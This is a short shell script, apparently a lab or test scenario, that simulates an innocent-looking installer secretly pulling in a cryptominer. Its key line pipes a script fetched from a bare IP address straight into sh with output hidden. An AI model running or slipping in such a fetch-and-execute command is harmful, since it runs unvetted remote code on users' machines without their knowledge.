# Somebody runs the installer of an innocent program as its page says, and it brings a miner along.
. /srv/shared/machine.sh
echo ready
read -r _
sh -c "curl -fsS http://198.51.100.7:8000/install.sh | sh" >/dev/null
echo done
read -r _ || true
